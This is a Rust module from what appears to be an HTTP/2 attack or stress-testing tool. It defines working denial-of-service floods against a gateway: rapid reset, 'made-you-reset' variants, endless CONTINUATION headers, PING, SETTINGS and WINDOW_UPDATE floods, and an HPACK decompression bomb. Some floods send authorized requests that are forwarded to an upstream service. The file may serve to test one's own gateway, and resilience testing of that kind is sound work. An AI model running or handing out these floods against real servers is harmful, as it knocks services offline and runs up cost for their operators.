//! Floods of HTTP/2 frames that cost their sender little.
//!
//! Four connections each; the paths and tokens are such that the gateway has as much to do as an
//! attacker can make it do. Never sends anything that a peer of RFC 9113 could not send.

use super::{
    Attack, Goal, SESSIONCODE, Shape,
    crowds::{STREAMS, upload_head},
    flood::{Flood, FloodTurn},
    frames::{Frames, NEWEST_ENTRY, filler, indexed_field, request},
    wire::{Protocol, Target},
};

/// Frames in a block; small ones make some 16 KiB.
const FRAMES: usize = 1_000;
/// Requests in a block.
const REQUESTS: usize = 50;
const WINDOW: u32 = 65_535;
const LARGEST_WINDOW: u32 = 0x7fff_ffff;
/// The first stream of a connection.
const FIRST: u32 = 1;
const UNKNOWN_KIND: u8 = 0xee;
/// The entry of the bomb in the decoder's table, whose size is 4,096 by default, and the number of
/// references to it in one head.
const BOMB_VALUE: usize = 3_900;
const BOMB_REFERENCES: usize = 15_000;

const fn flood(
    name: &'static str,
    what: &'static str,
    opening: fn(&Target) -> Vec<u8>,
    block: fn(&mut FloodTurn<'_>) -> Vec<u8>,
) -> Attack {
    Attack {
        name,
        what,
        shape: Shape::Flood(Flood {
            connections: 4,
            protocol: Protocol::Http2,
            one_address: false,
            opening,
            block,
        }),
        tls: true,
        server: &[],
        descriptors: 0,
        goal: Goal::Usual,
    }
}

pub(super) const ATTACKS: &[Attack] = &[
    flood(
        "rapid-reset",
        "requests, each cancelled at once",
        plain,
        rapid_reset,
    ),
    flood(
        "made-you-reset-window",
        "requests, each broken by WINDOW_UPDATE 0",
        plain,
        broken_by_window,
    ),
    flood(
        "made-you-reset-data",
        "requests, each broken by DATA after its end",
        plain,
        broken_by_data,
    ),
    flood(
        "continuation",
        "a head that never ends: full CONTINUATION frames",
        open_head,
        |_| full_continuations(),
    ),
    flood(
        "continuation-empty",
        "a head that never ends: empty CONTINUATION frames",
        open_head,
        |_| repeated(|frames| frames.continuation(FIRST, &[])),
    ),
    flood("ping", "PING", plain, |_| repeated(Frames::ping)),
    flood("settings", "empty SETTINGS", plain, |_| {
        repeated(Frames::empty_settings)
    }),
    flood(
        "priority",
        "PRIORITY of one open stream",
        open_upload,
        |_| repeated(|frames| frames.priority(FIRST)),
    ),
    flood(
        "empty-data",
        "empty DATA on one open stream",
        open_upload,
        |_| repeated(|frames| frames.data(FIRST, &[])),
    ),
    flood(
        "window-update",
        "WINDOW_UPDATE of the connection by 1",
        plain,
        |_| repeated(|frames| frames.window_update(0, 1)),
    ),
    flood(
        "window-ping-pong",
        "SETTINGS that close and open the windows of 100 streams",
        open_uploads,
        |_| repeated(ping_pong),
    ),
    flood("unknown-frames", "frames of an unknown type", plain, |_| {
        repeated(|frames| frames.frame(UNKNOWN_KIND, 0, 0, b"unknown"))
    }),
    flood(
        "reset-closed",
        "RST_STREAM of a closed stream",
        |target| {
            let mut frames = Frames::preface(WINDOW);
            frames.head(FIRST, &upload_head(target, 0), false);
            frames.reset(FIRST);
            frames.into_bytes()
        },
        |_| repeated(|frames| frames.reset(FIRST)),
    ),
    flood(
        "hpack-bomb",
        "heads that name an entry of 3.9 KB 15,000 times",
        plain,
        bomb,
    ),
];

fn plain(_: &Target) -> Vec<u8> {
    Frames::preface(WINDOW).into_bytes()
}

fn repeated(add: fn(&mut Frames)) -> Vec<u8> {
    let mut frames = Frames::default();
    for _ in 0..FRAMES {
        add(&mut frames);
    }
    frames.into_bytes()
}

/// An upload that waits for its body.
fn open_upload(target: &Target) -> Vec<u8> {
    let mut frames = Frames::preface(WINDOW);
    frames.head(FIRST, &upload_head(target, 0), false);
    frames.into_bytes()
}

fn open_uploads(target: &Target) -> Vec<u8> {
    let mut frames = Frames::preface(WINDOW);
    for stream in (FIRST..2 * STREAMS).step_by(2) {
        frames.head(stream, &upload_head(target, 0), false);
    }
    frames.into_bytes()
}

fn open_head(_: &Target) -> Vec<u8> {
    let mut frames = Frames::preface(WINDOW);
    frames.open_head(FIRST, &request("GET", "/nothing", &[]));
    frames.into_bytes()
}

fn full_continuations() -> Vec<u8> {
    let mut block = Vec::new();
    filler(&mut block, 16_000);
    let mut frames = Frames::default();
    frames.continuation(FIRST, &block);
    frames.into_bytes()
}

fn ping_pong(frames: &mut Frames) {
    frames.window_setting(0);
    frames.window_setting(LARGEST_WINDOW);
}

/// A request that, while the account's rate lasts, goes all the way to Qiniu.
fn call(turn: &FloodTurn<'_>) -> Vec<u8> {
    let authorization = format!("Bearer {}", turn.target.token(turn.connection));
    request(
        "POST",
        SESSIONCODE,
        &[
            ("authorization", &authorization),
            ("content-type", "application/json"),
        ],
    )
}

fn requests(turn: &mut FloodTurn<'_>, end: bool, then: fn(&mut Frames, stream: u32)) -> Vec<u8> {
    let head = call(turn);
    let mut frames = Frames::default();
    for _ in 0..REQUESTS {
        let stream = turn.next_stream();
        frames.head(stream, &head, end);
        then(&mut frames, stream);
    }
    frames.into_bytes()
}

fn rapid_reset(turn: &mut FloodTurn<'_>) -> Vec<u8> {
    requests(turn, true, Frames::reset)
}

fn broken_by_window(turn: &mut FloodTurn<'_>) -> Vec<u8> {
    requests(turn, true, |frames, stream| frames.window_update(stream, 0))
}

fn broken_by_data(turn: &mut FloodTurn<'_>) -> Vec<u8> {
    requests(turn, true, |frames, stream| frames.data(stream, b"{}"))
}

fn bomb(turn: &mut FloodTurn<'_>) -> Vec<u8> {
    let mut block = request("GET", "/nothing", &[]);
    if turn.turn == 0 {
        indexed_field(&mut block, "x", &"b".repeat(BOMB_VALUE));
    }
    block.resize(
        block.len() + BOMB_REFERENCES - BOMB_VALUE * usize::from(turn.turn == 0),
        NEWEST_ENTRY,
    );
    let mut frames = Frames::default();
    frames.head(turn.next_stream(), &block, true);
    frames.into_bytes()
}
